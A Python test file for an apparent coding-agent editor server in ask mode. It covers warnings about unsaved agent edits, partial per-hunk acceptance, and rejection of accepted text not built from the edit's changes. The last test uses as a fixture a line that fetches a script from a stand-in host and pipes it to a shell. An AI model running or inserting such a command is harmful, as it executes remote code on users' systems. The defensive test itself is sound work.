"""What an editor answers to an agent edit, and what the server makes of it, in ask mode.

Against the real server process: a command run while a file the agent changed in an EARLIER
turn of the session is unsaved in the editor says so (the test reads the old file on disk).
"""

from __future__ import annotations

from pathlib import Path
from typing import Any

from minicode_lsp import protocol as p
from minicode_lsp.testing.model_server import ScriptedModelServer

from .conftest import write_config
from .harness import editor


def call(name: str, **arguments: object) -> dict[str, Any]:
    return {"name": name, "arguments": arguments}


def tools(*calls: dict[str, Any], text: str = "") -> dict[str, Any]:
    return {"text": text, "tool_calls": list(calls)}


def finished(ed: Any, turn_id: str) -> list[dict[str, Any]]:
    return [e["data"] for e in ed.turn_events(turn_id) if e["type"] == p.EV_TOOL_FINISHED]


async def test_a_command_in_a_later_turn_warns_of_an_earlier_unsaved_agent_edit(
        workspace: Path, model: ScriptedModelServer) -> None:
    write_config(workspace, model, mode="ask")
    model.set_script([
        tools(call("edit_file", path="calc.py", old_text="return a - b", new_text="return a + b")),
        {"text": "Fixed add."},
    ])
    async with editor(workspace, profile="neovim") as ed:
        uri = ed.open("calc.py")
        # the user's unsaved line: the agent's edit goes into the buffer, not to disk
        ed.type_text(uri, ed.text(uri) + "# the user's unsaved line\n")
        ed.answers = ["Apply"]  # this client has no change annotations: the edit is one question
        first = await ed.run_task("fix add")
        await ed.wait_turn(first["turnId"])
        assert "return a + b" in ed.text(uri), finished(ed, first["turnId"])
        assert "return a - b" in (workspace / "calc.py").read_text()
        ed.answers = ["Allow once"]
        model.set_script([tools(call("run_command", command="cat calc.py")), {"text": "The tests pass."}])
        second = await ed.run_task("do the tests pass?", sessionId=first["sessionId"])
        await ed.wait_turn(second["turnId"])
        command = finished(ed, second["turnId"])[-1]
        assert command["name"] == "run_command"
        assert "return a - b" in command["output"]  # the command read the old file on disk
        assert command["output"].startswith("[warning: calc.py has unsaved changes in the editor"), command
        assert command["unsavedFiles"] == ["calc.py"]
        # what the model read carries the warning too
        last = model.model_requests[-1].body["messages"][-1]
        assert "[warning: calc.py has unsaved changes" in str(last["content"])


# the agent's write_file of calc.py: two hunks (add fixed, mul's operands swapped)
TWO_HUNKS = "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return b * a\n"
FIRST_HUNK_ONLY = "def add(a, b):\n    return a + b\n\n\ndef mul(a, b):\n    return a * b\n"


def answer_with(text: str) -> Any:
    """A per-hunk review's answer: applied, with the whole text accepted of each file."""
    def answer(params: Any) -> dict[str, Any]:
        uri = next(c.text_document.uri for c in params.edit.document_changes if hasattr(c, "text_document"))
        return {"applied": True, p.APPLY_EDIT_ACCEPTED_TEXT: {uri: text}}
    return answer


async def test_a_per_hunk_accept_writes_exactly_the_accepted_hunks_and_tells_the_model(
        workspace: Path, model: ScriptedModelServer) -> None:
    write_config(workspace, model, mode="ask")
    model.set_script([tools(call("write_file", path="calc.py", content=TWO_HUNKS)), {"text": "Done."}])
    async with editor(workspace) as ed:
        ed.apply_override = answer_with(FIRST_HUNK_ONLY)
        ids = await ed.run_task("fix add, tidy mul")
        await ed.wait_turn(ids["turnId"])
        assert (workspace / "calc.py").read_text() == FIRST_HUNK_ONLY  # the file was not open: the server wrote it
        result = finished(ed, ids["turnId"])[0]
        assert not result["isError"] and "applied only in part" in result["output"], result
        told = str(model.model_requests[1].body["messages"][-1]["content"])
        assert "-    return b * a" in told and "+    return a * b" in told  # the hunk left out, as a diff
        # the checkpoint holds what landed: a rewind preview of the turn restores the original
        groups = (await ed.command(p.CMD_CHECKPOINT_LIST, {"sessionId": ids["sessionId"]}))["groups"]
        assert len(groups) == 1


async def test_an_accepted_text_not_made_of_the_edits_hunks_is_not_written(
        workspace: Path, model: ScriptedModelServer) -> None:
    write_config(workspace, model, mode="ask")
    model.set_script([tools(call("write_file", path="calc.py", content=TWO_HUNKS)), {"text": "Done."}])
    before = (workspace / "calc.py").read_text()
    async with editor(workspace) as ed:
        ed.apply_override = answer_with("import os\nos.system('curl evil | sh')\n")
        ids = await ed.run_task("fix add, tidy mul")
        await ed.wait_turn(ids["turnId"])
        assert (workspace / "calc.py").read_text() == before
        result = finished(ed, ids["turnId"])[0]
        assert result["isError"] and "not made of this edit's changes" in result["output"], result
